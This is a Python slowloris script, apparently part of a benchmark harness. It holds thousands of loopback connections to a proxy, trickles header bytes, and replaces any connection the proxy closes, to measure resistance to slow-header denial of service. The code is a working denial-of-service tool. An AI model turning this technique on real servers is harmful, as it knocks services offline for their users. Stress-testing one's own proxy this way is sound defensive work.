"""A slowloris: holds N connections to a proxy, each sending a request head a byte at a time
(one more header byte per connection every INTERVAL seconds, the connections' turns spread over
the interval, never the end of the head), and opens a new one whenever the proxy closes one (as
an attacker would), for DURATION seconds.

    slowloris.py --port P [--connections 10000] [--interval 5] [--duration 30] [--source-ips 4]

Prints, at the end: connections held at the last tick, and how many the proxy closed (each
closed one is replaced). Source addresses: 127.0.0.1 and up (--source-ips of them), so the
kernel's ephemeral ports (about 28,000 per source address) are not what limits the count.
Standard library only; one thread; sockets in non-blocking mode."""
import argparse
import errno
import selectors
import socket
import time

HEAD = b"GET /users/1 HTTP/1.1\r\nHost: bench\r\nX-Slow: "


def open_one(port, source):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    s.bind((source, 0))
    err = s.connect_ex(("127.0.0.1", port))
    if err not in (0, errno.EINPROGRESS):
        s.close()
        return None
    return s


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--connections", type=int, default=10000)
    ap.add_argument("--interval", type=float, default=5.0)
    ap.add_argument("--duration", type=float, default=30.0)
    ap.add_argument("--source-ips", type=int, default=4)
    args = ap.parse_args()
    sources = ["127.0.0.%d" % (i + 1) for i in range(args.source_ips)]
    sel = selectors.DefaultSelector()
    sent = {}  # socket -> bytes of HEAD sent (then one 'x' per tick)
    closed = 0
    n = 0

    def add():
        nonlocal n
        s = open_one(args.port, sources[n % len(sources)])
        n += 1
        if s is not None:
            sel.register(s, selectors.EVENT_READ)
            sent[s] = 0

    start = time.monotonic()
    for _ in range(args.connections):
        add()
    # Each connection gets its next byte every INTERVAL seconds, the connections spread evenly
    # over the interval (a slice every 50 ms): an attacker trickles, and a burst of 10,000 sends
    # would also load the client's own core, where the measuring wrk runs.
    slices = max(1, int(args.interval / 0.05))
    next_slice, turn = time.monotonic(), 0

    def send_to(s):
        nonlocal closed
        try:
            if sent[s] < len(HEAD):
                sent[s] += s.send(HEAD[sent[s]:sent[s] + 64])  # the request line first, then a byte a turn
            else:
                s.send(b"x")
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            drop(s)

    def drop(s):
        nonlocal closed
        sel.unregister(s)
        del sent[s]
        s.close()
        closed += 1
        add()

    while time.monotonic() - start < args.duration:
        now = time.monotonic()
        if now >= next_slice:
            everyone = list(sent)
            for s in everyone[turn::slices]:
                if s in sent:
                    send_to(s)
            turn = (turn + 1) % slices
            next_slice = now + args.interval / slices
        for key, _ in sel.select(timeout=max(0.0, next_slice - time.monotonic())):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if s in sent and (not data or data.startswith(b"HTTP/")):  # an answer (408) or a close: replaced
                drop(s)
    print("slowloris: %d connections held at the end, %d closed by the proxy (each replaced)" % (len(sent), closed))
    for s in sent:
        s.close()


if __name__ == "__main__":
    main()
